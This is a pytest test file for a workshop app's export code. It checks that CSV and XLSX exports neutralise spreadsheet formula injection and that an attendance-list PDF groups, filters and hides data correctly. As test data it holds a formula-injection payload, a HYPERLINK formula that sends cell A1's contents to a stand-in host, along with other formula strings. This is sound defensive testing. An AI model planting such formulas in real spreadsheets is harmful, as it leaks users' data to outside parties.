"""Formula-safe CSV/XLSX exports and the attendance list (daftar hadir) PDF."""

import csv
import io

import pytest
from flask_babel import force_locale
from openpyxl import load_workbook
from pypdf import PdfReader

from kotaku_collab.models import AttendanceStatus, RegistrationStatus, Sector
from kotaku_collab.services.attendance_pdf import attendance_pdf
from kotaku_collab.services.exports import neutralise, phone_cell, write_csv, write_xlsx
from kotaku_collab.services.participants import attendance_sheet, export_table
from tests import factories

FORMULA_NAME = '=HYPERLINK("http://x/?"&A1,"x")'
FORMULA_ORG = "@SUM(1+1)"
PHONE = "+6281234567890"
DANGEROUS_START = ("=", "+", "-", "@", "\t", "\r", "\0")


@pytest.mark.parametrize("value, expected", [
    (FORMULA_NAME, "'" + FORMULA_NAME),
    (FORMULA_ORG, "'" + FORMULA_ORG),
    ("+1+1", "'+1+1"),
    ("-2+3", "'-2+3"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("Ni Luh =Ayu", "Ni Luh =Ayu"),
    ("", ""),
    (None, ""),
    (12, "12"),
])
def test_neutralise_quotes_only_a_leading_formula_character(value, expected):
    assert neutralise(value) == expected


@pytest.mark.parametrize("value, expected", [
    (PHONE, PHONE),
    ("+62 812", "'+62 812"),
    ("+62812=1", "'+62812=1"),
    ("=1+1", "'=1+1"),
    ("0812345", "0812345"),
    ("", ""),
])
def test_phone_cells_keep_e164_numbers_and_quote_anything_else(value, expected):
    assert phone_cell(value) == expected


@pytest.fixture
def hostile_registration(db):
    workshop = factories.make_workshop()
    org = factories.make_organisation(FORMULA_ORG, sector=Sector.FILANTROPI)
    person = factories.make_person(FORMULA_NAME, organisation=org, phone=PHONE,
                                   email="-x@example.org", position="+Ketua")
    return factories.make_registration(workshop, person)


def test_csv_export_neutralises_every_formula_and_keeps_phone_digits(hostile_registration):
    header, rows = export_table([hostile_registration], include_personal=True)
    data = write_csv(header, rows, phone_columns=["phone"])
    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 with BOM, for Excel
    assert b"\r\n" in data
    parsed = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert parsed[0] == list(header)
    record = dict(zip(parsed[0], parsed[1]))
    assert record["name"] == "'" + FORMULA_NAME
    assert record["organisation"] == "'" + FORMULA_ORG
    assert record["position"] == "'+Ketua"
    assert record["email"] == "'-x@example.org"
    assert record["phone"] == PHONE
    for row in parsed:
        for column, cell in zip(parsed[0], row):
            if column != "phone":
                assert not cell.startswith(DANGEROUS_START), (column, cell)


def test_xlsx_export_has_text_cells_and_text_formatted_phones(hostile_registration):
    header, rows = export_table([hostile_registration], include_personal=True)
    data = write_xlsx(header, rows, phone_columns=["phone"], sheet_title="Peserta")
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet.title == "Peserta"
    assert [c.value for c in sheet[1]] == list(header)
    cells = {name: cell for name, cell in zip(header, sheet[2])}
    assert cells["name"].value == "'" + FORMULA_NAME and cells["name"].data_type == "s"
    assert cells["organisation"].value == "'" + FORMULA_ORG
    assert cells["phone"].value == PHONE
    assert cells["phone"].data_type == "s" and cells["phone"].number_format == "@"
    for row in sheet.iter_rows():
        for cell in row:
            if cell.value is None:
                continue
            assert cell.data_type == "s", (cell.coordinate, cell.value)
            if header[cell.column - 1] != "phone":
                assert not str(cell.value).startswith(DANGEROUS_START), cell.coordinate


def pdf_text(data: bytes) -> str:
    return "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(data)).pages)


def test_daftar_hadir_lists_names_under_their_sector_headings(db):
    workshop = factories.make_workshop(title="Lokakarya Kolaborasi Klungkung", venue="Wantilan")
    people = {}
    for name, sector in [("Gede Pemerintah", Sector.PEMERINTAH), ("Ayu Masyarakat", Sector.MASYARAKAT),
                         ("Budi Masyarakat", Sector.MASYARAKAT), ("Candra Media", Sector.MEDIA)]:
        org = factories.make_organisation(f"Lembaga {name}", sector=sector)
        people[name] = factories.make_registration(
            workshop, factories.make_person(name, organisation=org, phone=PHONE, position="Staf"))
    people["Candra Media"].status = RegistrationStatus.WAITLISTED  # waiting, not attended
    late = factories.make_registration(workshop, factories.make_person(
        "Dewi Walk-in", organisation=factories.make_organisation(sector=Sector.DUNIA_USAHA)),
        status=RegistrationStatus.WAITLISTED, waitlist_position=1,
        attendance=AttendanceStatus.HADIR)
    db.session.flush()

    data = attendance_pdf(workshop, attendance_sheet(db.session, workshop), include_phone=True)
    reader = PdfReader(io.BytesIO(data))
    assert reader.pages[0].mediabox.width > reader.pages[0].mediabox.height  # landscape
    text = pdf_text(data)
    with force_locale("id"):
        headings = [s.label.upper() for s in (Sector.PEMERINTAH, Sector.DUNIA_USAHA,
                                              Sector.MASYARAKAT)]
        media = Sector.MEDIA.label.upper()
    order = [headings[0], "Gede Pemerintah", headings[1], late.person.name, headings[2],
             "Ayu Masyarakat", "Budi Masyarakat"]
    positions = [text.index(item) for item in order]
    assert positions == sorted(positions), text
    assert "Candra Media" not in text and media not in text
    assert "Lokakarya Kolaborasi Klungkung" in text and "Wantilan" in text
    assert PHONE in text
    # Signature halves numbered 1 to 4, one per row.
    for number in range(1, 5):
        assert f"{number}." in text


def test_daftar_hadir_leaves_out_phones_without_permission_and_survives_any_name(db):
    workshop = factories.make_workshop()
    org = factories.make_organisation("Ngurah 漢字 😀", sector=Sector.MEDIA)
    factories.make_registration(workshop, factories.make_person("Łukasz 𝔘𝔫𝔦 Dja'far",
                                                                organisation=org, phone=PHONE))
    data = attendance_pdf(workshop, attendance_sheet(db.session, workshop), include_phone=False)
    text = pdf_text(data)
    assert PHONE not in text
    assert "Lukasz Uni Dja'far" in text


def test_daftar_hadir_of_an_empty_workshop_says_so(db):
    workshop = factories.make_workshop()
    text = pdf_text(attendance_pdf(workshop, [], include_phone=True))
    assert workshop.title in text
